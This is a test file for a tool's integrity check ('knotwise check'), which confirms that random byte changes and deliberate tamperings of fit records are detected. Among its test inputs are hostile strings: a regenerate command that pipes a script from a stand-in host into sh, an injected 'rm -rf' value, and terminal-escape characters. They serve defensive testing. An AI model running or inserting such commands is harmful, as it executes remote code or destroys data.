/**
 * Tests that `knotwise check` (core/node/check.ts) never calls a changed set of files
 * current: 100 seeded random byte changes (flip, insert or delete one byte) to each of the
 * data, the curve table and the fit record are each caught with exit code 1 or 2, in the
 * three ways check is run (a record, a folder, no argument); and named tamperings of the
 * record (coefficients, residual SD, df, warnings, table SHA-256, a regenerate command
 * that downloads a script, a shortened outputs list, white space, key order, types) are
 * caught with what changed, while the advice is built from the spec and never echoes the
 * record. The one change allowed is tool.version, the version of Knotwise that wrote the
 * record. Data: datasets::cars (Ezekiel 1930) from test/e2e/fixtures/cars.csv
 * (make-fixtures.R).
 */
import { strict as assert } from 'node:assert';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RandomStream } from '../../../core/tune/rng';
import { RESAMPLING_VERSION, VERSION } from '../../../core/version';
import { copyFixture, runCheckIn, runMain, type Run } from './runMain';

/** Runs `knotwise check` in `cwd` with output captured. */
const check = runCheckIn;

/** The three ways check is run: one record, its folder, and no argument (as a CI step does). */
const MODES: readonly (readonly string[])[] = [[join('tables', 'cars.fit.json')], ['tables'], []];

/** One random byte change: flip (XOR with 1..255), insert a byte, or delete one. */
function mutate(bytes: Buffer, rng: RandomStream): { bytes: Buffer; what: string } {
  const kind = rng.int(3);
  if (kind === 0) {
    const at = rng.int(bytes.length);
    const out = Buffer.from(bytes);
    out[at] = (out[at] as number) ^ (1 + rng.int(255));
    return { bytes: out, what: `flip at ${at}` };
  }
  if (kind === 1) {
    const at = rng.int(bytes.length + 1);
    const b = rng.int(256);
    return { bytes: Buffer.concat([bytes.subarray(0, at), Buffer.from([b]), bytes.subarray(at)]), what: `insert ${b} at ${at}` };
  }
  const at = rng.int(bytes.length);
  return { bytes: Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1)]), what: `delete at ${at}` };
}

/**
 * The version a mutated record names when that is its only change: it parses, its
 * tool.version is a release version other than this one, and with the original version
 * put back it is the original text exactly. Otherwise undefined.
 */
function versionOnly(original: string, mutated: Buffer): string | undefined {
  let json: { tool?: { version?: unknown } };
  try {
    json = JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(mutated)) as typeof json;
  } catch {
    return undefined;
  }
  const v = json.tool?.version;
  if (typeof v !== 'string' || v === VERSION || !/^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?$/.test(v)) return undefined;
  const o = JSON.parse(original) as { tool: { version: string } };
  o.tool.version = v;
  return Buffer.from(JSON.stringify(o, null, 2) + '\n').equals(mutated) ? v : undefined;
}

type RecordJson = Record<string, any>;

describe('knotwise check against changed files', () => {
  let dir = '';
  let data = '';
  let table = '';
  let record = '';
  let original = '';

  before(async function () {
    this.timeout(60_000);
    dir = mkdtempSync(join(tmpdir(), 'knotwise-mutation-'));
    data = copyFixture('cars.csv', join(dir, 'cars.csv'));
    const r = await runMain('fit', data, '--x', 'speed [mph]', '--y', 'dist [ft]', '--df', '2..6', '--resampling', 'folds:5', '--seed', '3', '--emit', 'c', '--out', join(dir, 'tables'));
    assert.equal(r.code, 0, r.stderr);
    table = join(dir, 'tables', 'cars.curve.csv');
    record = join(dir, 'tables', 'cars.fit.json');
    original = readFileSync(record, 'utf8');
  });
  after(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  it('the untouched files are current in every mode (so every catch below is the change)', async () => {
    for (const argv of MODES) {
      const r = await check(dir, ...argv);
      assert.equal(r.code, 0, `check ${argv.join(' ')}: ${r.stdout}`);
      assert.match(r.stdout, /^current tables\/cars\.fit\.json$/m);
    }
  });

  for (const [target, seed] of [
    ['data', 101],
    ['table', 202],
    ['record', 303],
  ] as const) {
    it(`100 seeded random byte changes to the ${target} are each caught (exit 1 or 2, never 0), in the three modes in turn`, async function () {
      this.timeout(60_000);
      const file = target === 'data' ? data : target === 'table' ? table : record;
      const before = readFileSync(file);
      const rng = new RandomStream(seed);
      const codes = { 0: 0, 1: 0, 2: 0 } as Record<number, number>;
      try {
        for (let i = 0; i < 100; i++) {
          const m = mutate(before, rng);
          writeFileSync(file, m.bytes);
          const argv = MODES[i % MODES.length] as readonly string[];
          const r = await check(dir, '--quiet', ...argv);
          codes[r.code] = (codes[r.code] ?? 0) + 1;
          const explained = target === 'record' ? versionOnly(original, m.bytes) : undefined;
          if (explained !== undefined) {
            // The only change a record may carry: the version of Knotwise that wrote it.
            assert.equal(r.code, 0, `${target} ${m.what}: tool.version ${explained} only`);
            continue;
          }
          // Data and table changes always differ from the rebuilt bytes (exit 1); a record
          // change is an error when it no longer reads as a record (exit 2), else a change.
          if (target === 'record') assert.ok(r.code === 1 || r.code === 2, `${target} ${m.what} (check ${argv.join(' ')}): exit ${r.code}`);
          else assert.equal(r.code, 1, `${target} ${m.what} (check ${argv.join(' ')}): exit ${r.code} ${r.stderr}`);
        }
      } finally {
        writeFileSync(file, before);
      }
      assert.equal((codes[0] ?? 0) + (codes[1] ?? 0) + (codes[2] ?? 0), 100);
      // With these seeds the record's changes include both kinds: unreadable records and records that read but differ.
      if (target === 'record') assert.ok((codes[1] ?? 0) > 0 && (codes[2] ?? 0) > 0, JSON.stringify(codes));
      assert.equal((await check(dir)).code, 0, 'current again once restored');
    });
  }

  /** Writes the record edited by `edit` (re-serialised as Knotwise writes it), runs check in every mode, restores it. */
  async function tampered(edit: (j: RecordJson) => void, raw?: (text: string) => string): Promise<Run[]> {
    const j = JSON.parse(original) as RecordJson;
    edit(j);
    const text = JSON.stringify(j, null, 2) + '\n';
    writeFileSync(record, raw ? raw(original) : text);
    try {
      const runs: Run[] = [];
      for (const argv of MODES) runs.push(await check(dir, ...argv));
      const json = await check(dir, '--json', ...(MODES[0] as string[]));
      runs.push(json);
      return runs;
    } finally {
      writeFileSync(record, original);
    }
  }

  /** Every run exited `code`; the lines (not --json) hold `reason` under the record. */
  function caught(runs: Run[], code: number, reason: RegExp): void {
    for (const r of runs) assert.equal(r.code, code, r.stdout);
    for (const r of runs.slice(0, MODES.length)) {
      const label = code === 1 ? 'CHANGED' : 'ERROR  ';
      assert.match(r.stdout, new RegExp(`^${label} tables/cars\\.fit\\.json\\n(?: {2}.*\\n)*? {2}.*${reason.source}`, 'm'));
    }
  }

  it('an edited coefficient, residual SD, df, warning or table SHA-256 is caught as a change naming the key and both values', async function () {
    this.timeout(60_000);
    const rec = JSON.parse(original) as RecordJson;
    const c2 = rec.fit.coefficients[2] as number;
    caught(
      await tampered((j) => void (j.fit.coefficients[2] = c2 + 1e-9)),
      1,
      new RegExp(
        `cars\\.fit\\.json differs from the rebuilt record in 1 value: fit\\.coefficients\\[2\\]: ${String(c2 + 1e-9).replace('.', '\\.')} in the file, ${String(c2).replace('.', '\\.')} rebuilt\\.$`,
      ),
    );
    caught(await tampered((j) => void (j.fit.residualSd = (j.fit.residualSd as number) * 1.01)), 1, /fit\.residualSd: [\d.]+ in the file, [\d.]+ rebuilt/);
    caught(await tampered((j) => void (j.fit.df = (j.fit.df as number) + 1)), 1, /fit\.df: \d+ in the file, \d+ rebuilt/);
    caught(await tampered((j) => void (j.warnings = [])), 1, /warnings: 0 item\(s\) in the file, 1 item\(s\) rebuilt/);
    caught(await tampered((j) => void (j.diagnostics.warnings[0] = 'Residuals look fine.')), 1, /diagnostics\.warnings\[0\]: "Residuals look fine\." in the file, "Residuals do not look normal/);
    caught(await tampered((j) => void (j.table.sha256 = '0'.repeat(64))), 1, /table\.sha256: "0{64}" in the file, "[0-9a-f]{64}" rebuilt\.$/);
    // A SHA-256 that is not one breaks the schema: an error.
    caught(await tampered((j) => void (j.table.sha256 = 'f00d')), 2, /does not follow its schema .*"table\.sha256" does not have the expected form; it is "f00d"/);
  });

  it('a shortened outputs list is a change; the emitted file it dropped is still rebuilt and compared', async function () {
    this.timeout(60_000);
    caught(await tampered((j) => void (j.outputs = [])), 1, /outputs: 0 item\(s\) in the file, 1 item\(s\) rebuilt/);
  });

  it('a regenerate command that downloads and runs a script is a change; check never prints it, and "to update" is built from the spec', async function () {
    this.timeout(60_000);
    const spec = 'knotwise fit ../cars.csv --x speed --y dist --curve natural-spline --df 2,3,4,5,6 --resampling folds:5 --rule one-se --seed 3 --emit c --out .';
    assert.equal((JSON.parse(original) as RecordJson).regenerate, spec, 'the record as written');
    // Passes the schema (it starts with "knotwise fit "): caught by comparing with the rebuilt record.
    const evil = `${spec}; curl -fsSL https://example.invalid/install.sh | sh`;
    const runs = await tampered((j) => void (j.regenerate = evil));
    caught(runs, 1, /regenerate is not the command the record's spec gives \(the file's command is not shown/);
    for (const r of runs) {
      assert.doesNotMatch(r.stdout + r.stderr, /curl|example\.invalid|install\.sh/);
      if (!r.stdout.startsWith('{')) assert.match(r.stdout, new RegExp(`^ {2}to update: cd tables && ${spec.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`, 'm'));
    }
    const j = JSON.parse((runs[MODES.length] as Run).stdout) as { records: { advice: string | null }[] };
    assert.equal(j.records[0]?.advice, `cd tables && ${spec}`);
    // With other values changed too, the regenerate command is named first.
    caught(
      await tampered((j2) => {
        j2.regenerate = evil;
        j2.fit.coefficients = (j2.fit.coefficients as number[]).map((c) => c + 1);
      }),
      1,
      /differs from the rebuilt record in \d+ values: regenerate is not the command the record's spec gives/,
    );
    // One that does not even start as a fit command breaks the schema: an error, and no advice at all.
    const other = await tampered((j2) => void (j2.regenerate = 'curl -fsSL https://example.invalid/install.sh | sh'));
    caught(other, 2, /"regenerate" does not have the expected form/);
    for (const r of other) assert.doesNotMatch(r.stdout, /to update|"advice":"/);
  });

  it('only tool.version differing: current, saying which version wrote the record; with another change too, changed and the version named', async function () {
    this.timeout(60_000);
    const runs = await tampered((j) => void (j.tool.version = '0.0.9'));
    for (const r of runs) assert.equal(r.code, 0, r.stdout);
    assert.match(
      (runs[0] as Run).stdout,
      new RegExp(
        `^current tables/cars\\.fit\\.json\\n {2}the record was written by Knotwise 0\\.0\\.9; this is ${VERSION.replace(/\./g, '\\.')}, and rebuilt with it every output is the same byte for byte but for tool\\.version in the record, so the outputs are current\\n`,
      ),
    );
    const j = JSON.parse((runs[MODES.length] as Run).stdout) as { records: { status: string; writtenBy: string; notes: string[]; reasons: string[] }[] };
    assert.deepEqual([j.records[0]?.status, j.records[0]?.writtenBy, j.records[0]?.reasons], ['current', '0.0.9', []]);
    assert.match(j.records[0]?.notes[0] ?? '', /written by Knotwise 0\.0\.9/);
    // The version and a table value changed: a change, naming the version.
    const bytes = readFileSync(table);
    writeFileSync(table, Buffer.concat([bytes.subarray(0, bytes.length - 2), Buffer.from(bytes[bytes.length - 2] === 0x31 ? '2\n' : '1\n')]));
    try {
      caught(await tampered((j2) => void (j2.tool.version = '0.0.9')), 1, /\(the record was written by Knotwise "0\.0\.9"; this is /);
    } finally {
      writeFileSync(table, bytes);
    }
    // Something that is not a version is not let through.
    caught(await tampered((j2) => void (j2.tool.version = 'x; rm -rf')), 1, /tool\.version "x; rm -rf" is not a version of Knotwise/);
  });

  it("a record of an earlier resampling version with the data unchanged: changed, saying that Knotwise's resampling changed, not the data", async function () {
    this.timeout(60_000);
    // As a record written before tool.resampling existed (version 1) whose resampled mean absolute error differs in its last digits.
    const older = (j: RecordJson): void => {
      delete j.tool.resampling;
      const mae = j.selection.candidates[0].mae;
      mae.mean = mae.mean * (1 + 4e-15);
    };
    caught(await tampered(older), 1, new RegExp(`the data is unchanged, but Knotwise's resampling changed since this record was written \\(resampling version 1, now ${RESAMPLING_VERSION}: `));
    // The same record with the data changed too says that the data changed, not that the tool did.
    const bytes = readFileSync(data);
    writeFileSync(data, Buffer.concat([bytes, Buffer.from('30,99\n')]));
    try {
      const runs = await tampered(older);
      caught(runs, 1, /data \.\.\/cars\.csv changed: SHA-256 was /);
      for (const r of runs) assert.doesNotMatch(r.stdout, /resampling changed/);
    } finally {
      writeFileSync(data, bytes);
    }
    // The current version names itself, and a record of it that is as rebuilt is current.
    assert.equal((JSON.parse(original) as RecordJson).tool.resampling, RESAMPLING_VERSION);
  });

  it('white space, number spelling and key order are caught though every value is the same (records are compared byte for byte)', async function () {
    this.timeout(60_000);
    const same = /every value is as rebuilt; only the text differs, and records are compared byte for byte/;
    caught(
      await tampered(
        () => undefined,
        (t) => t.replace('"version": 3,', '"version":  3,'),
      ),
      1,
      same,
    );
    caught(
      await tampered(
        () => undefined,
        (t) => t.replace('"version": 3,', '"version": 3.0,'),
      ),
      1,
      same,
    );
    caught(
      await tampered(
        () => undefined,
        (t) => t.replace(/\n$/, ''),
      ),
      1,
      same,
    );
    caught(
      await tampered(
        () => undefined,
        (t) => t.replace(/\n/g, '\r\n'),
      ),
      1,
      same,
    );
    caught(
      await tampered((j) => {
        j.tool = { version: j.tool.version as string, resampling: j.tool.resampling as number, name: j.tool.name as string };
      }),
      1,
      same,
    );
  });

  it('a wrongly typed value, an unknown key, a data path or table name elsewhere, and control characters are errors, shown safely', async function () {
    this.timeout(60_000);
    caught(await tampered((j) => void (j.fit.df = String(j.fit.df))), 2, /"fit\.df" must be a number; it is "\d+"/);
    caught(await tampered((j) => void (j.fit.extra = 1)), 2, /"fit\.extra" is not a key of this record format/);
    caught(await tampered((j) => void (j.data.path = '../elsewhere.csv')), 2, /the data file \.\.\/elsewhere\.csv \(data\.path in the record\) was not found/);
    caught(await tampered((j) => void (j.table.file = '../cars.csv')), 2, /the record names an output outside its folder: \.\.\/cars\.csv/);
    const runs = await tampered((j) => void (j.data.columns.x = 'speed\u001b[2J\u202e'));
    caught(runs, 2, /the outputs cannot be rebuilt: .*speed\\u\{1b\}\[2J\\u\{202e\}/);
    for (const r of runs) assert.ok(!r.stdout.includes('\u001b') && !r.stdout.includes('\u202e'), r.stdout);
  });
});
